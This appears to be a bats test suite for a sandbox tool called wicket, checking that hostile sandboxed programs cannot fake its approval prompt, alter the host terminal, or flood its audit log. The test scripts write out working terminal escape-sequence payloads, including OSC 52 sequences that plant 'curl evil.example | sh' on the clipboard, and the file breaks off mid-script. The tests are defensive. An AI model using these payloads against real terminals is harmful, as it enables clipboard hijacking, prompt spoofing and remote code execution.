#!/usr/bin/env bats
# `wicket ask` on the real terminal against a hostile sandbox (issue 12):
# the question cannot be faked by what the sandbox wrote before it (1),
# typed-ahead keys do not answer it (4), a loop of requests cannot hold
# the terminal nor fill the disk (5), and the hooks' `ask` runs exactly
# the command that was refused (6). Judged outside: what a terminal
# emulator (tmux) shows, marker files the command would make outside the
# sandbox, the audit log.

load ../lib/common
load escape_helpers
bats_require_minimum_version 1.5.0

setup() {
	ask_setup || return 1
	TMUX_SOCK=wicket-askterm-$$-$BATS_TEST_NUMBER
	own_tmux
}

teardown() {
	tmux -L "$TMUX_SOCK" kill-server 2>/dev/null || true
	escape_cleanup
	common_teardown
}

# drive: a python program on stdin with tests/lib/ptydrive importable,
# after PRELUDE: OUT, WS, W (wicket) and session(), an interactive bash
# in the sandbox, on a terminal of the test's.
PRELUDE='
import os, re, time
from ptydrive import Term, bash, check, run
out, ws, w = os.environ["OUT"], os.environ["WS"], os.environ["WICKET"]
def session():
    return bash([w, "run", "--"], cwd=ws)
'
drive() { { printf '%s\n' "$PRELUDE"; cat; } | PYTHONPATH=$BATS_TEST_DIRNAME/../lib bounded 120 "$PY" - "$@"; }

# The screen of a terminal emulator (tmux, 80x24) running CMD in $WS:
# what a person sees, attributes included (capture-pane -e).
tmux_start() {
	tmux -L "$TMUX_SOCK" -f /dev/null new-session -d -x 80 -y 24 \
		env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$OUT" TERM=xterm LANG=C.UTF-8 \
		XDG_STATE_HOME="$XDG_STATE_HOME" WICKET_DIAG=off \
		bash --norc --noprofile -c 'cd "$1" && shift && "$@"; echo "wicket-exit=$?"; sleep 60' \
		_ "$WS" "$@"
}
screen() { tmux_screen -e; }
wait_screen() { tmux_wait "$1" -e; }

@test "ask attack 1: what the sandbox wrote before the question (scroll region, charset, hidden text, an open OSC) cannot hide or fake it" {
	command -v tmux >/dev/null || skip "tmux is not installed"
	# A fake question where the person looks, then terminal state that
	# would keep the real one out of sight: a scroll region of 3 lines at
	# the top, origin mode, no wrap, the line-drawing charset in G0 and
	# G1 and shifted out, insert mode, hidden text, a hidden cursor, the
	# alternate screen, and an OSC string left open to swallow what
	# follows. The charsets and attributes are set before the alternate
	# screen is entered, so that leaving it does not restore them.
	printf '%s\n' '#!/bin/sh' \
		'printf "\033[2J\033[H  would run: git status\r\nRun it outside the sandbox once? [y/N] \r\n"' \
		'printf "\033(0\033)0\016\033[8m\033[?1049h\033[1;3r\033[?6h\033[?7l\033[4h\033[?25l\033]0;"' \
		'exec "$1" ask --outside --reason "git status" -- touch "$2/made"' >"$WS/attack"
	chmod 755 "$WS/attack"
	tmux_start "$WICKET" run -- ./attack "$WICKET" "$OUT"
	# The fake question has its own [y/N] line: wait for the real one,
	# drawn below it once the grace period is over (a key sent before
	# would be ignored, as it should).
	wait_screen '^\(keys typed in the next second are ignored\)$'
	local i
	for ((i = 0; i < 100; i++)); do
		[ "$(screen | grep -cE '^Run it outside the sandbox once\? \[y/N\] ?$')" -ge 2 ] && break
		sleep 0.1
	done
	# The real command, plain, whole, on the screen a person looks at:
	# from its first line on, no attribute or character set of the
	# sandbox's (tmux -e marks a change where it starts, with ESC or SO).
	run -0 bash -c 'tmux -L "$1" capture-pane -p -e | sed -n "/a program in the sandbox asks/,\$p"' _ "$TMUX_SOCK"
	[ -n "$output" ]
	refute_output --regexp $'[\033\016]'
	screen | grep -qxF "  [0]       touch"
	screen | grep -qxF "  [1]       $OUT/made"
	screen | grep -qE '^  program:  /\S*/touch$'
	[ ! -e "$OUT/made" ]
	tmux -L "$TMUX_SOCK" send-keys y Enter
	wait_screen '^wicket-exit=0$'
	[ -e "$OUT/made" ]
}

@test "terminal attack: what the sandbox wrote last (an open OSC, hidden text, a scroll region, the alternate screen) does not outlive the session" {
	command -v tmux >/dev/null || skip "tmux is not installed"
	# The session ends with the terminal in a state of the sandbox's
	# choosing; the calling shell's next output must be plain and where
	# it belongs. Judged on the screen and modes of tmux, after wicket.
	printf '%s\n' '#!/bin/sh' 'printf "before\r\n"' \
		'printf "\033(0\033)0\016\033[8m\033[30;40m\033]10;#000000\007\033[?1049h\033[1;3r\033[?6h\033[?7l\033[4h\033[?25l\033]0;"' >"$WS/attack"
	chmod 755 "$WS/attack"
	tmux_start "$WICKET" run -- ./attack
	wait_screen '^wicket-exit=0$'
	run -0 screen
	assert_line --index 0 before
	assert_line --index 1 wicket-exit=0
	run -0 tmux -L "$TMUX_SOCK" display -p '#{alternate_on} #{scroll_region_upper},#{scroll_region_lower} #{insert_flag} #{wrap_flag} #{cursor_flag} #{pane_fg}'
	assert_output "0 0,23 0 1 1 default"
}

@test "terminal attack: the window title and the tab stops the sandbox set do not outlive the session" {
	command -v tmux >/dev/null || skip "tmux is not installed"
	# The title (OSC 0 and 2, a title stack pushed and popped around it),
	# every tab stop cleared but one at column 3: the calling shell's next
	# `ls` would be garbled, its title a lie.
	printf '%s\n' '#!/bin/sh' 'printf "before\r\n"' \
		'printf "\033[22;0t\033]0;PWNED-ICON\007\033]2;PWNED-TITLE\007\033[23;0t\033]2;PWNED-TITLE\033\\"' \
		'printf "\033[3g\033[4G\033H\r\033[5 q"' >"$WS/attack"
	chmod 755 "$WS/attack"
	tmux_start "$WICKET" run -- ./attack
	wait_screen '^wicket-exit=0$'
	run -0 tmux -L "$TMUX_SOCK" display -p '#{pane_title}|#{pane_tabs}'
	[[ $output != *PWNED* ]]
	assert_output --regexp '\|8,16,24,32,40,48,56,64,72$'
}

@test "terminal attack: the alternate screen entered with a C0 control inside the sequence does not outlive the session" {
	command -v tmux >/dev/null || skip "tmux is not installed"
	# ESC [ ? 1 0 LF 4 9 h: the terminal carries out the LF and sets
	# ?1049 all the same (found by a red team: wicket's tracker gave up
	# on the sequence at the LF and left the caller on that screen).
	printf '%s\n' '#!/bin/sh' 'printf "before\r\n"' \
		'printf "\033[?10\n49h\033[2J\033[Hsandbox screen\r\n"' >"$WS/attack"
	chmod 755 "$WS/attack"
	tmux_start "$WICKET" run -- ./attack
	wait_screen '^wicket-exit=0$'
	run -0 tmux -L "$TMUX_SOCK" display -p '#{alternate_on}'
	assert_output "0"
	run -0 screen
	assert_line --index 0 before
}

@test "terminal attack: a second terminal on stdout (relayed through a pipe) is reset at the end too" {
	command -v tmux >/dev/null || skip "tmux is not installed"
	# stdin on terminal A, stdout on terminal B: B is fed through a pipe
	# by the supervisor (stdio.c), raw, and finish_reset (pty.c) is only
	# written to A. The sandbox leaves B on the alternate screen with an
	# OSC string open (it swallows what B's shell writes next).
	tmux -L "$TMUX_SOCK" -f /dev/null new-session -d -x 80 -y 24 -s B 'sleep 60'
	local ttyb
	ttyb=$(tmux -L "$TMUX_SOCK" display -p -t B '#{pane_tty}')
	printf '%s\n' '#!/bin/sh' 'printf "\033[?1049h\033[2J\033[Hsandbox screen\033]0;"' >"$WS/attack"
	chmod 755 "$WS/attack"
	tmux -L "$TMUX_SOCK" new-session -d -x 80 -y 24 -s A \
		env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$OUT" TERM=xterm LANG=C.UTF-8 \
		XDG_STATE_HOME="$XDG_STATE_HOME" XDG_CONFIG_HOME="$OUT/config" WICKET_DIAG=off \
		bash --norc --noprofile -c 'cd "$1" && "$2" run -- ./attack >"$3"; echo "wicket-exit=$?"; sleep 60' \
		_ "$WS" "$WICKET" "$ttyb"
	local i
	for ((i = 0; i < 100; i++)); do
		tmux -L "$TMUX_SOCK" capture-pane -p -t A | grep -qx 'wicket-exit=0' && break
		sleep 0.1
	done
	tmux -L "$TMUX_SOCK" capture-pane -p -t A | grep -qx 'wicket-exit=0'
	run -0 tmux -L "$TMUX_SOCK" display -p -t B '#{alternate_on}'
	assert_output "0"
	# What B's shell writes next is shown, not swallowed by the OSC.
	printf 'after\r\n' >"$ttyb"
	for ((i = 0; i < 50; i++)); do
		tmux -L "$TMUX_SOCK" capture-pane -p -t B | grep -q 'after$' && break
		sleep 0.1
	done
	tmux -L "$TMUX_SOCK" capture-pane -p -t B | grep -q 'after$'
}

# attack_in_tmux CONF: $WS/attack (which prints "done" last) run by
# wicket in tmux session B, with CONF as tmux's configuration; returns
# once wicket has ended.
attack_in_tmux() {
	printf '%s\n' "$1" >"$OUT/tmux.conf"
	chmod 755 "$WS/attack"
	tmux -L "$TMUX_SOCK" -f "$OUT/tmux.conf" new-session -d -x 80 -y 24 -s B -n host-win \
		env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$OUT" TERM=xterm LANG=C.UTF-8 \
		XDG_STATE_HOME="$XDG_STATE_HOME" WICKET_DIAG=off \
		bash --norc --noprofile -c 'cd "$1" && shift && "$@"; echo "wicket-exit=$?"; sleep 60' \
		_ "$WS" "$WICKET" run -- ./attack
	wait_screen '^wicket-exit=0$'
	screen | grep -qx done
}

# attack_outside CMD...: $WS/attack run again in the same pane, without
# wicket, until CMD succeeds (5 s at most): the bytes do act outside the
# sandbox, so the test before it can fail.
attack_outside() {
	local i
	tmux -L "$TMUX_SOCK" respawn-pane -k sh -c "cd '$WS' && ./attack; sleep 60"
	for ((i = 0; i < 50; i++)); do
		"$@" && return 0
		sleep 0.1
	done
	"$@"
}

tmux_names() { tmux -L "$TMUX_SOCK" display-message -p -t B '#{pane_title}|#{window_name}'; }

@test "terminal attack: APC, ESC k and OSC l from the sandbox do not name the host's tmux pane or window" {
	command -v tmux >/dev/null || skip "tmux is not installed"
	# red team 17, F2: tmux takes APC as the pane's title (shown in its
	# status line, left after the session) and ESC k as the window's name.
	# red team 18, F1: a byte from 0x80 up after ESC, which tmux ignores;
	# red team 19, F1: a BEL there, which it carries out.
	printf '%s\n' '#!/bin/sh' \
		'printf "\033\340]2;SANDBOX-HI-TITLE\007\033\340kSANDBOX-HI-WIN\033\\"' \
		'printf "\033\302\240_SANDBOX-HI-PANE\033\\"' \
		'printf "\033\007]2;SANDBOX-BEL-TITLE\007\033\007kSANDBOX-BEL-WIN\033\\\\"' \
		'printf "\033_SANDBOX-PANE\033\\"' \
		'printf "\033kSANDBOX-WIN\033\\"' \
		'printf "\033]lSANDBOX-L\033\\"' \
		'printf "done\r\n"' >"$WS/attack"
	attack_in_tmux 'set -g allow-rename on'
	run tmux_names
	refute_output --partial SANDBOX
	attack_outside eval 'tmux_names | grep -qx "SANDBOX-PANE|SANDBOX-WIN"'
}

@test "terminal attack: OSC 52 from the sandbox does not set the host's clipboard (tmux with set-clipboard on)" {
	command -v tmux >/dev/null || skip "tmux is not installed"
	# kitty, alacritty, wezterm and foot obey OSC 52 by default, tmux
	# with set-clipboard on: what the person pastes next would be the
	# sandbox's. Judged on tmux's paste buffer (found by a red team).
	printf '%s\n' '#!/bin/sh' \
		'printf "\033]52;c;%s\007" "$(printf "curl evil.example | sh" | base64)"' \
		'printf "\033]0052;c;%s\033\\" "$(printf "curl evil2.example | sh" | base64)"' \
		'printf "\033\340]52;c;%s\007" "$(printf "curl evil3.example | sh" | base64)"' \
		'printf "\033]5\033_x\033\\\\"; printf "2;c;%s\007\r\n" "$(printf "curl evil4.example | sh" | base64)"' \
		'printf "\033\007]52;c;%s\007" "$(printf "curl evil5.example | sh" | base64)"' \
		'printf "\033]0;still a title\007done\r\n"' >"$WS/attack"
	attack_in_tmux 'set -g set-clipboard on'
	run tmux -L "$TMUX_SOCK" show-buffer
	refute_output --partial "evil"
	attack_outside eval 'tmux -L "$TMUX_SOCK" show-buffer 2>/dev/null | grep -q evil'
}

# live_attack: $WS/attack (which prints "done", then reads a line) run
# by wicket in tmux session B; returns once "done" is on the screen, the
# session still running, so that what its bytes did is seen while the
# sandbox could still hold it (the end-of-session reset would hide some).
live_attack() {
	chmod 755 "$WS/attack"
	tmux -L "$TMUX_SOCK" -f /dev/null new-session -d -x 80 -y 24 -s B \
		env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$OUT" TERM=xterm LANG=C.UTF-8 \
		XDG_STATE_HOME="$XDG_STATE_HOME" WICKET_DIAG=off \
		bash --norc --noprofile -c 'cd "$1" && shift && "$@"; echo "wicket-exit=$?"; sleep 60' \
		_ "$WS" "$WICKET" run -- ./attack
	tmux_wait '^done$'
}

# The host tmux pane's state that tmux shows: its history (the
# scrollback), origin mode, default colours, the path a new pane opens
# in (OSC 7) and the title.
pane_state() {
	tmux -L "$TMUX_SOCK" display -p -t B \
		'hist=#{?#{history_size},kept,gone} origin=#{origin_flag} fg=#{pane_fg} bg=#{pane_bg} path=#{pane_path} title=#{pane_title}'
}

@test "terminal attack: sequences off the allow-list (the scrollback erased, origin mode, colours, path, title) do not act on the host's tmux" {
	command -v tmux >/dev/null || skip "tmux is not installed"
	# 60 lines (36 in the scrollback of a 24-line pane), then what
	# tmux obeys and the allow-list does not have.
	printf '%s\n' '#!/bin/sh' 'seq 60' \
		'printf "\033[3J\033[?6h\033]10;#000001\007\033]11;#000002\007"' \
		'printf "\033]7;file://host/tmp/SANDBOX-PATH\007\033]2;SANDBOX-TITLE\007"' \
		'printf "done\r\n"; read -r x' >"$WS/attack"
	live_attack
	run -0 pane_state
	assert_output --regexp '^hist=kept origin=0 fg=default bg=default path= title='
	refute_output --partial SANDBOX
	# The session ends as it should with a line typed.
	tmux -L "$TMUX_SOCK" send-keys -t B Enter
	tmux_wait '^wicket-exit=0$'
	# The same bytes without wicket: each does act on tmux.
	attack_outside eval 'pane_state | grep -qx "hist=gone origin=1 fg=#000001 bg=#000002 path=file://host/tmp/SANDBOX-PATH title=SANDBOX-TITLE"'
}

@test "terminal attack: a hard reset (RIS) and the screen alignment test (DECALN) from the sandbox do not wipe the host's screen" {
	command -v tmux >/dev/null || skip "tmux is not installed"
	local seq base=$TMUX_SOCK
	# A tmux server each (a server killed may still be going away).
	for seq in '\033c' '\033#8'; do
		[ "$TMUX_SOCK" = "$base" ] || tmux -L "$TMUX_SOCK" kill-server
		TMUX_SOCK=$base-${#seq}
		printf '%s\n' '#!/bin/sh' "printf 'keep-me\r\n$seq'" 'printf "done\r\n"; read -r x' >"$WS/attack"
		live_attack
		run -0 tmux_screen -t B
		assert_line --index 0 keep-me
		refute_output --partial EEEE
		attack_outside eval '! tmux_screen -t B | grep -qx keep-me'
	done
}

@test "terminal attack: the terminal's answers to reports the sandbox asked for are never typed into the calling shell" {
	command -v tmux >/dev/null || skip "tmux is not installed"
	# The sandbox asks for its cursor's position and the terminal's
	# attributes, and is gone before the answers come: what the shell
	# after wicket reads first must not be them. Judged by the shell's
	# own status report: the terminal answers in order, so what comes
	# before that answer is what was left in the input.
	printf '%s\n' '#!/bin/sh' 'printf "\033[6n\033[c\033[>c\033[6n"' >"$WS/attack"
	chmod 755 "$WS/attack"
	local probe='stty -icanon -echo min 1; printf "\033[5n"; IFS= read -r -d n got; printf "after=%s|\n" "$got" | cat -v; sleep 60'
	tmux -L "$TMUX_SOCK" -f /dev/null new-session -d -x 80 -y 24 -s B \
		env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$OUT" TERM=xterm LANG=C.UTF-8 \
		XDG_STATE_HOME="$XDG_STATE_HOME" WICKET_DIAG=off \
		bash --norc --noprofile -c 'cd "$1" && "$2" run -- ./attack; '"$probe" _ "$WS" "$WICKET"
	# (The sandbox's own terminal may echo answers it got in time, as
	# text: that is on the screen before the probe, harmless.)
	tmux_wait 'after=' -t B
	run -0 tmux_screen -t B
	assert_output --partial 'after=^[[0|'
	# Without wicket the answers are there.
	# (echoed too, before the probe turns echo off).
	tmux -L "$TMUX_SOCK" respawn-pane -k -t B bash --norc --noprofile -c 'cd "$1" && ./attack; '"$probe" _ "$WS"
	tmux_wait 'after=' -t B
	run -0 tmux_screen -t B
	assert_output --regexp 'after=\^\[\[[0-9]+;[0-9]+R'
}

# fs_start SESSION CMD...: CMD in a new 80x24 tmux session in $WS, as a
# person would start it (the same environment either way).
fs_start() {
	local s=$1
	shift
	tmux -L "$TMUX_SOCK" -f /dev/null new-session -d -x 80 -y 24 -s "$s" \
		env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$OUT" TERM=xterm LANG=C.UTF-8 \
		XDG_STATE_HOME="$XDG_STATE_HOME" WICKET_DIAG=off LESSHISTFILE=- \
		bash --norc --noprofile -c 'cd "$1" && shift && "$@"; echo "exit=$?"; sleep 60' _ "$WS" "$@"
}

# fs_same MARKER KEYS SHOW CMD...: CMD run by wicket (session W) and
# without it (session N), each until MARKER is on its screen; then the
# screens, as SHOW (a command reading capture-pane -p -e) prints them,
# must become the same (10 s at most: one may still be drawing). Then
# KEYS (tmux key names) end CMD, and wicket exits 0.
fs_same() {
	local marker=$1 keys=$2 show=$3 i
	shift 3
	fs_start W "$WICKET" run -- "$@"
	fs_start N "$@"
	tmux_wait "$marker" -t W
	tmux_wait "$marker" -t N
	fs_show() { tmux -L "$TMUX_SOCK" capture-pane -p -e -t "$1" | bash -c "$show"; }
	for ((i = 0; i < 100; i++)); do
		[ "$(fs_show W)" = "$(fs_show N)" ] && break
		sleep 0.1
	done
	run -0 fs_show N
	local outside=$output
	[ -n "$outside" ]
	run -0 fs_show W
	assert_equal "$output" "$outside"
	# shellcheck disable=SC2086 # KEYS are words
	tmux -L "$TMUX_SOCK" send-keys -t W $keys
	tmux_wait '^exit=0$' -t W
}

@test "full-screen programs draw the same through wicket: vim, less, top" {
	command -v tmux >/dev/null || skip "tmux is not installed"
	local i
	for ((i = 1; i <= 60; i++)); do
		printf 'line %02d\t%s\n' "$i" "$(printf '%*s' $((i % 50)) '' | tr ' ' '=')"
	done >"$WS/text"
	chmod 644 "$WS/text"
	# A tmux server each (a server killed may still be going away).
	local base=$TMUX_SOCK
	if command -v vim >/dev/null; then
		# No vimrc, no viminfo, no swap file; the cursor moved, a
		# line drawn reversed by a search, the screen scrolled.
		TMUX_SOCK=$base-vim
		fs_same '^line 30' ':q! Enter' cat vim -u NONE -i NONE -N -n -c 'set hlsearch' -c '/line 2' -c 'normal 10j' text
		tmux -L "$TMUX_SOCK" kill-server
	fi
	if command -v less >/dev/null; then
		TMUX_SOCK=$base-less
		fs_same '^line 25' q cat less -S +3 text
		tmux -L "$TMUX_SOCK" kill-server
	fi
	if command -v top >/dev/null; then
		# Its numbers (time, load, tasks, processes) differ: what is
		# drawn where, the name of each line (before its first colon:
		# the values after it change their width, and with it where the
		# words fall, with the load) and the header, must not.
		TMUX_SOCK=$base-top
		fs_same '^ *PID +USER' q "sed -n '1,7p' | cut -d: -f1 | sed 's/[0-9]//g' | awk '{print \$1, \$2}'" top -d 100
	fi
}

@test "ask attack 1: default colours the sandbox set (OSC 10, 11, 12, 4) are reset before the question" {
	command -v tmux >/dev/null || skip "tmux is not installed"
	# Black on black: the real question would be invisible under a fake
	# one. tmux keeps the pane's default colours (#{pane_fg}, #{pane_bg}).
	printf '%s\n' '#!/bin/sh' \
		'printf "\033]10;#000000\007\033]11;#000000\007\033]12;#000000\007\033]4;1;#000000\007"' \
		'exec "$1" ask --outside --reason "git status" -- touch "$2/made"' >"$WS/attack"
	chmod 755 "$WS/attack"
	tmux_start "$WICKET" run -- ./attack "$WICKET" "$OUT"
	wait_screen '^Run it outside the sandbox once\? \[y/N\] ?$'
	run -0 tmux -L "$TMUX_SOCK" display -p '#{pane_fg} #{pane_bg}'
	assert_output "default default"
	tmux -L "$TMUX_SOCK" send-keys n Enter
	wait_screen '^wicket-exit='
	[ ! -e "$OUT/made" ]
}

@test "ask attack 4: y and Enter typed 150 ms after the question appeared do not answer it" {
	drive <<'PYEOF'
def main():
    t = session()
    t.line('"%s" ask --outside -- touch "%s/typeahead"; echo "rc=$?"' % (w, out))
    t.expect(r"asks to run a command")
    time.sleep(0.15)
    t.send("y\r")          # the habitual second y, for the question before
    t.expect(r"Run it outside the sandbox once\? \[y/N\] ")
    check(not os.path.exists(out + "/typeahead"), "keys typed ahead answered the question")
    t.send("n\r")
    t.expect(r"rc=122\r\n")
    check(not os.path.exists(out + "/typeahead"), "the command ran")
    t.line("exit 0")
    check(t.wait() == 0, "wicket exits with the shell's status")

run(main)
PYEOF
}

@test "ask attack 5: a loop that ignores signals cannot hold the terminal: after 5 refusals the rest are refused without a question, said once, audited compactly" {
	drive <<'PYEOF'
def main():
    t = session()
    t.line('trap "" INT TERM; for i in $(seq 40); do "%s" ask --outside -- touch "%s/flood$i"; done; echo loop-done' % (w, out))
    for k in range(5):
        t.expect(r"Run it outside the sandbox once\? \[y/N\] ")
        t.send("\x03" if k == 0 else "n\r")
    t.expect(r"loop-done", timeout=30)
    check(len(re.findall(rb"refused without a question", t.out)) == 1, "the refusals are said once")
    check(t.out.count(b"[y/N]") == 5, "no question after the fifth refusal")
    t.line("echo back-$((6*7))")
    t.expect(r"back-42")
    t.line("exit 0")
    check(t.wait() == 0, "wicket exits with the shell's status")
    check(not [f for f in os.listdir(out) if f.startswith("flood")], "nothing of the loop ran")

run(main)
PYEOF
	# 40 requests: 5 lines for the questions, then one compact record.
	run -0 wc -l <"$AUDIT"
	assert_equal "$output" 6
	grep -q '"refused_without_question":35' "$AUDIT"
}

@test "ask attack 5: audit lines are bounded, the log rotates at its size limit, and the state directory cannot be read inside" {
	printf '#!/bin/sh\ncat >/dev/null\nexit 1\n' >"$OUT/no"
	chmod 755 "$OUT/no"
	mkdir -p "$XDG_STATE_HOME/wicket"
	chmod 700 "$XDG_STATE_HOME/wicket"
	# Just under the limit (4 MiB): the next line rotates it.
	head -c 4194000 /dev/zero | tr '\0' '\n' >"$AUDIT"
	chmod 600 "$AUDIT"
	run --separate-stderr bash -c 'cd "$WS" && exec "$1" run --approver "$OUT/no" -- sh -c '\''
		"$1" ask -- true "$(head -c 30000 /dev/zero | tr "\0" x)" $(seq 300 | head -n 250)
		for f in "$XDG_STATE_HOME/wicket"/*; do cat "$f"; done >"$PWD/leak" 2>/dev/null
		ls -a "$XDG_STATE_HOME/wicket" >"$PWD/listing" 2>/dev/null; true'\'' _ "$1"' _ "$WICKET"
	assert_equal "$status" 0
	[ -s "$AUDIT.1" ]
	[ "$(stat -c %s "$AUDIT.1")" -ge 4194000 ]
	run -0 wc -l <"$AUDIT"
	assert_equal "$output" 1
	run -0 wc -c <"$AUDIT"
	[ "$output" -le 8192 ]
	grep -q '"bytes":30000' "$AUDIT"
	grep -q '"argc":252' "$AUDIT"
	[ "$(stat -c %a "$AUDIT")" = 600 ]
	# From inside, nothing of the state directory: no line of the log.
	[ ! -s "$WS/leak" ] || ! grep -q '"session"' "$WS/leak"
	! grep -q 'audit' "$WS/listing" 2>/dev/null
}

@test "ask attack 5: a flood of requests cannot erase what earlier sessions left in the audit log: a session's budget, then refusals counted in one line" {
	mkdir -p "$XDG_STATE_HOME/wicket"
	chmod 700 "$XDG_STATE_HOME/wicket"
	# The record of two earlier sessions: one already rotated, one at the
	# start of a log just under its size limit (4 MiB).
	printf '{"session":"earlier-one"}\n' >"$AUDIT.1"
	{ printf '{"session":"earlier-two"}\n'; head -c 4190000 /dev/zero | tr '\0' '\n'; } >"$AUDIT"
	chmod 600 "$AUDIT" "$AUDIT.1"
	printf '{"extends": "workspace-write", "escalation": {"allow": [["touch", "%s/after"]]}}\n' \
		"$OUT" >"$OUT/pol.json"
	chmod 644 "$OUT/pol.json"
	# 400 requests for programs that do not exist, each as large an audit
	# line as the bounds allow (32 arguments and a reason of control
	# characters, each written as \u0001): about 10 MB if all were logged.
	# Then a request an allow rule approves.
	run --separate-stderr bash -c 'cd "$WS" && exec timeout --kill-after=5 600 "$1" run --policy "$OUT/pol.json" -- bash -c '\''
		big=$(head -c 200 /dev/zero | tr "\0" "\001")
		args=(); for i in $(seq 32); do args+=("$big"); done
		for i in $(seq 400); do "$1" ask --reason "$big" -- "/nonexistent-$i" "${args[@]}" 2>/dev/null; done
		"$1" ask -- touch "$2/after"; echo "after=$?"'\'' _ "$1" "$OUT"' _ "$WICKET"
	assert_equal "$status" 0
	# Judged on the host: the earlier sessions' lines are all still there,
	# the request after the budget did not run, and the refusals are one
	# line with their number.
	cat "$AUDIT"* | grep -q '"session":"earlier-one"'
	cat "$AUDIT"* | grep -q '"session":"earlier-two"'
	[ ! -e "$OUT/after" ]
	assert_line "after=122"
	run -0 bash -c 'cat "$1"* | grep -c "\"refused_unlogged\":"' _ "$AUDIT"
	assert_equal "$output" 1
	run -0 bash -c 'cat "$1"* | grep -o "\"refused_unlogged\":[0-9]*"' _ "$AUDIT"
	[ "${output#*:}" -ge 300 ]
	# What the session wrote: about its budget (1 MiB), not 10 MB.
	run -0 bash -c 'cat "$1"* | wc -c' _ "$AUDIT"
	[ "$output" -le $((4190100 + 1200000)) ]
}

@test "ask attack 6: wicket ask with stdin a pipe asks on the terminal, like sudo on /dev/tty; a session on a pipe is not asked" {
	drive <<'PYEOF'
def main():
    t = session()
    t.line('echo piped-input | "%s" ask --outside -- sh -c "cat >%s/piped"; echo "rc=$?"' % (w, out))
    # The person is told that the sandbox writes what the command reads.
    t.expect(r"  input: +a pipe the sandbox writes: the command reads")
    t.expect(r"Run it outside the sandbox once\? \[y/N\] ")
    t.send("y\r")
    t.expect(r"rc=0\r\n")
    with open(out + "/piped") as f:
        check(f.read() == "piped-input\n", "the command read the pipe")
    t.line("exit 0")
    check(t.wait() == 0, "wicket exits with the shell's status")
    # The session's own stdin a pipe, its output on the terminal: the pty
    # only shows output (wicket never reads the terminal then), so there
    # is no question to trust: refused, nothing runs.
    t = bash(prompt="sh$ ", cwd=ws)
    t.line('echo session-input | "%s" run -- sh -c \'read l; echo "got $l"; "$0" ask -- touch "$1/session"; echo "rc=$?"\' "%s" "%s"'
           % (w, w, out))
    t.expect(r"got session-input")
    t.expect(r"no terminal to ask on")
    t.expect(r"rc=[1-9][0-9]*\r\n")
    check(not os.path.exists(out + "/session"), "nothing ran without a question")
    t.expect(r"sh\$ ")
    t.line("exit 0")
    t.wait()

run(main)
PYEOF
}

@test "ask attack 6: the hooks' ask (bash, zsh) runs exactly the refused command, never the whole line nor a later command" {
	printf '#!/bin/sh\nexit 0\n' >"$OUT/yes"
	printf '#!/bin/sh\nsleep 2\necho again >>"%s/log"\n' "$WS" >"$WS/append"
	# OUT/mk FILE (outside the workspace, or it would be CAREFUL and no
	# approver could approve it): one plain command whose own process is refused, and that
	# waits until the refusal is counted (the hooks' status file says so),
	# so that it shows after this command and not after the next one.
	printf '%s\n' '#!/bin/sh' 'st=/dev/fd/${WICKET_STATUS_FD%%:*}' 'n=$(head -n 1 "$st")' ': >"$1"' \
		'i=0; while [ "$i" -lt 100 ] && [ "$(head -n 1 "$st")" = "$n" ]; do sleep 0.05; i=$((i + 1)); done' >"$OUT/mk"
	chmod 755 "$OUT/yes" "$WS/append" "$OUT/mk"
	# The refused file's directory is not the home (HOME is OUT here), so
	# that the grant derived for it is --write OUT/d, which a grant gives.
	mkdir "$OUT/d"
	: >"$OUT/.zshrc"
	for sh in /bin/bash $(command -v zsh); do
		rm -f "$WS/log" "$OUT/d/two words"
		SH=$sh drive <<'PYEOF'
def main():
    env = dict(os.environ, HOME=out, SHELL=os.environ["SH"], HISTFILE="", WICKET_DIAG="on")
    t = Term([w, "shell", "--approver", out + "/yes"], cwd=ws, env=env)
    t.expect(r"\(wicket\) ")
    # A line of two commands, the second refused: `ask` must not run the
    # first again outside (a commit pushed twice).
    t.line('echo once >>"%s/log"; touch "%s/d/two words"' % (ws, out))
    t.expect(r"how to allow it")
    t.line('ask; echo "ask=$?"')
    t.expect(r"ask=\d+")
    check(open(ws + "/log").read() == "once\n", "ask ran the first command again")
    check(not os.path.exists(out + "/d/two words"), "ask ran a line that was not one command")
    # One command, refused: ask runs exactly it, its arguments intact.
    t.line('"%s/mk" "%s/d/two words"' % (out, out))
    t.expect(r"if approved: ask")
    t.line('ask; echo "ask=$?"')
    t.expect(r"ask=\d+")
    # The approver was asked for exactly that command, on the grant
    # derived from its refusal, and it ran there: the file is made.
    import json
    asks = [json.loads(l) for l in open(os.environ["AUDIT"])]
    asks = [a for a in asks if "argv" in a and a["argv"][0] == out + "/mk"]
    check(len(asks) == (2 if "zsh" in os.environ["SH"] else 1) and asks[-1]["argv"] == [out + "/mk", out + "/d/two words"]
          and asks[-1]["decision"] == "approved" and asks[-1]["grant"] == {"write": [out + "/d"]},
          "ask did not ask for the refused command on its grant: %r" % asks)
    check(os.path.exists(out + "/d/two words"), "the command asked for did not run on its grant")
    # A process refused in the background shows after a later command,
    # itself one plain command: ask must not offer that later command.
    t.line('(sleep 1; touch "%s/late") &' % out)
    t.expect(r"\(wicket\) ")
    t.line("./append")
    t.expect(r"wicket: the sandbox blocked")
    t.line('ask; echo "ask=$?"')
    t.expect(r"ask=\d+")
    check(open(ws + "/log").read() == "once\nagain\n", "ask ran a later command")
    t.line("exit 0")
    t.wait()

run(main)
PYEOF
	done
}

@test "terminal attack: X10 mouse reports, kitty keyboard flags, autorepeat off, the next tab's directory, notifications and user-defined keys never reach the terminal" {
	command -v script >/dev/null || skip "script (bsdutils) is not installed"
	# What the real terminal receives, byte for byte (script's typescript).
	cd "$WS" && bounded 60 script -qec "$(printf '%q ' "$WICKET" run -- printf '\033[?9h\033[>1u\033[?8l\033]7;file://host/etc\007\033]9;wicket: approved\007\033P1;1|17/6375726c0d\033\\')" "$OUT/ts" </dev/null >/dev/null 2>&1 || true
	run -0 "$PY" - "$OUT/ts" <<'PYEOF'
import sys
ts = open(sys.argv[1], "rb").read().split(b"\n", 1)[1]  # below script's header, which quotes the command
# Off the allow-list: never passed, not even while the session ran.
assert b"\x1b[?9h" not in ts, "X10 mouse reports reached the terminal"
assert b"\x1b[>1u" not in ts, "kitty keyboard flags reached the terminal"
assert b"\x1b[?8l" not in ts, "autorepeat off reached the terminal"
assert b"\x1b]7;" not in ts, "OSC 7 reached the terminal"
assert b"\x1b]9;" not in ts, "OSC 9 reached the terminal"
